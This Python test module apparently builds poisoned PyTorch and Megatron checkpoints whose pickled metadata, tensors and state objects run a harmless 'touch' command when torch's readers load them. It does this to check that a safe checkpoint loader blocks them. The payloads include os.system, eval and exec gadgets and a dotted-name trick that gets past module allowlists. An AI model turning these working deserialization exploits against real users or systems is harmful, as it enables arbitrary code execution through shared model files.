"""Checkpoints of a stranger that run a command when torch's own readers read them."""

import io
import os
import pickle
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex

from frontload.megatron_ext.checkpoints.table import COMMON, read_table

TENSOR = "decoder.final_norm.weight"
COMMON_STATE = "common_state/shard_0_1"
EXTRA_STATE = "decoder.layers.0.mixer.in_proj._extra_state/shard_0_1"


class Call:
    """What pickles as a call: reading it back makes it."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def touch(marker: Path) -> Call:
    return Call(os.system, f"touch {marker}")


def _text(value: str) -> bytes:
    return b"\x8c" + struct.pack("<B", len(value)) + value.encode()


def _in_table(marker: Path, protocol: int, where: Callable[[Any], Any]) -> Callable[[Path], bytes]:
    """A whole table, with the call where nothing reads it."""

    def make(weights: Path) -> bytes:
        table = read_table(weights)
        table.planner_data = where(touch(marker))
        return pickle.dumps(table, protocol=protocol)

    return make


def _raw(stream: bytes) -> Callable[[Path], bytes]:
    return lambda weights: stream


def tables(marker: Path) -> dict[str, Callable[[Path], bytes]]:
    """Name -> the bytes of a .metadata that run a command, made from the weights beside it."""
    command = f"touch {marker}"
    write = f"open({str(marker)!r}, 'w').close()"
    return {
        "os.system": _in_table(marker, 4, lambda call: call),
        "os.system of protocol 2": _in_table(marker, 2, lambda call: call),
        "in a list in a dict": _in_table(marker, 4, lambda call: {"a": [1, ({"b": call},)]}),
        "protocol 0": _raw(f"cposix\nsystem\n(S'{command}'\ntR.".encode()),
        "INST": _raw(f"(S'{command}'\niposix\nsystem\n.".encode()),
        "eval of protocol 0": _raw(f'c__builtin__\neval\n(S"{write}"\ntR.'.encode()),
        "exec": _raw(pickle.dumps(Call(exec, write), protocol=4)),
        "a function of an allowed module": _raw(
            pickle.dumps(Call(torch.save, {}, str(marker)), protocol=4)
        ),
        "a dotted name in an allowed module": _raw(
            b"\x80\x04"
            + _text("torch.distributed.checkpoint.filesystem")
            + _text("os.system")
            + b"\x93"
            + _text(command)
            + b"\x85R."
        ),
    }


def objects(marker: Path) -> dict[str, tuple[str, bytes]]:
    """Name -> the key of an object in a checkpoint, and its bytes."""

    def saved(content: Any, **options: Any) -> bytes:
        stream = io.BytesIO()
        torch.save(content, stream, **options)
        return stream.getvalue()

    return {
        "in common_state": (COMMON_STATE, saved([{"state": touch(marker)}])),
        "in a module's state": (EXTRA_STATE, saved([None, {"a": [touch(marker)]}])),
        "in the place of a tensor": (TENSOR, saved(touch(marker))),
        "torch's old format": (
            COMMON_STATE,
            saved([touch(marker)], _use_new_zipfile_serialization=False),
        ),
    }


COMMON_FILE = "in common.pt"


def names() -> list[str]:
    """Of all payloads."""
    return [*tables(Path("x")), *objects(Path("x")), COMMON_FILE]


def plant(weights: Path, name: str, marker: Path) -> None:
    """Puts one payload into a checkpoint's weights."""
    if name == COMMON_FILE:
        torch.save({"args": touch(marker)}, weights / COMMON)
        return
    if name in tables(marker):
        (weights / ".metadata").write_bytes(tables(marker)[name](weights))
        return
    key, content = objects(marker)[name]
    add_object(weights, key, content)


def add_object(weights: Path, key: str, content: bytes) -> None:
    """Enters an object into the table and its bytes into the data file."""
    table = read_table(weights)
    (file,) = weights.glob("*.distcp")
    place = _StorageInfo(file.name, file.stat().st_size, len(content))
    file.write_bytes(file.read_bytes() + content)
    for index in [index for index in table.storage_data if index.fqn == key]:
        del table.storage_data[index]
    table.state_dict_metadata[key] = BytesStorageMetadata()
    table.storage_data[MetadataIndex(key)] = place
    (weights / ".metadata").write_bytes(pickle.dumps(table))


def read_as_torch_does(weights: Path, name: str, marker: Path) -> None:
    """What torch's and Megatron's readers do with the planted bytes."""
    if name == COMMON_FILE:
        torch.load(weights / COMMON, weights_only=False)
    elif name in tables(marker):
        pickle.loads((weights / ".metadata").read_bytes())
    else:
        from torch.distributed.checkpoint.filesystem import FileSystemReader
        from torch.distributed.checkpoint.state_dict_loader import load

        key, _ = objects(marker)[name]
        load({key: io.BytesIO()}, storage_reader=FileSystemReader(weights), no_dist=True)
